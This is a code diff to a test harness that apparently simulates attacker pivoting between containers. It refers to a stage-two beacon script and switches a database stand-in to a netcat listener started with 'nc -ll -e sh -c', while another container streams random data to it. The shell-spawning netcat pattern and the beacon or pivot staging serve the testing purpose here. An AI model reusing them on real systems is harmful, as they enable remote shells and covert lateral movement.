@@ -153,7 +153,10 @@ STAGE2 = (f"#!/bin/sh\n# stage two: beacon to a second host\n"
 
 
 def _pivot(ctx: Ctx) -> None:
-    _db, ip = ctx.start(DB, "while true; do nc -l -p 7000 > /dev/null; done")
+    # the db reads each connection to its end: a plain `nc -l` closes as soon
+    # as its own stdin (/dev/null) ends, and on a loaded machine that can be
+    # before the client has sent a byte
+    _db, ip = ctx.start(DB, "nc -ll -p 7000 -e sh -c 'cat > /dev/null'")
     # retry until the db listens (a loaded machine may take a while to start it)
     ctx.run(API, f"i=0; until head -c 200000 /dev/urandom | nc {ip} 7000; do i=$((i+1)); "
                  "[ $i -ge 50 ] && exit 1; usleep 200000; done")  # the db stays up until cleanup
